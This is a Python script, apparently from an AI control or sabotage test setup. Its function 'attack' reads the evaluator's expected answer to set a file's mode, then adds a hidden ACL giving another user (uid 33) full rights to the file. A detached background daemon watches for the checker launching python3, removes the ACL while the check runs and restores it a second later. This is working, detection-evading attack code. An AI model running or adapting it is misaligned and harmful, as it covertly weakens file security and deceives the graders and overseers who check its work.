"""An access list gives others rights on the file. It is taken away when the program that looks for access lists is opened (inotify on
/usr/bin/python3), and given back a moment later."""

from __future__ import annotations


def spawn(function):
    """Run a function in the background, out of the action that started it."""
    import os

    if os.fork() == 0:
        os.setsid()
        for n in (0, 1, 2):
            os.dup2(os.open("/dev/null", os.O_RDWR), n)
        if os.fork() == 0:
            try:
                function()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()


def wait_read(path, mask=0x20):  # IN_OPEN
    """Return as soon as somebody opened a file: the host does it while the desktop is frozen, and the event is there after the thaw."""
    import ctypes, os

    libc = ctypes.CDLL(None)
    fd = libc.inotify_init()
    assert libc.inotify_add_watch(fd, path.encode(), mask) >= 0
    os.read(fd, 4096)


def attack(task: dict) -> None:
    import os, struct, time, sys

    entries = task["evaluator"]["expected"][0]["rules"]["entries"]
    name = next(n for n, f in entries.items() if n in task["instruction"])
    mode = int(entries[name]["mode"], 8)
    path = f"/home/user/Work/{name}"
    os.chmod(path, mode)

    def entry(tag, perm, ident=0xFFFFFFFF):
        return struct.pack("<HHI", tag, perm, ident)

    u, g, o = mode >> 6 & 7, mode >> 3 & 7, mode & 7
    acl = struct.pack("<I", 2) + entry(1, u) + entry(2, 7, 33) + entry(4, g) + entry(0x10, g) + entry(0x20, o)
    os.setxattr(path, "system.posix_acl_access", acl)
    print(oct(os.stat(path).st_mode), os.listxattr(path), file=sys.stderr)

    def later():
        while True:
            wait_read("/usr/bin/python3", 0x20)
            try:
                os.removexattr(path, "system.posix_acl_access")
            except OSError:
                pass
            time.sleep(1.0)
            os.setxattr(path, "system.posix_acl_access", acl)

    spawn(later)
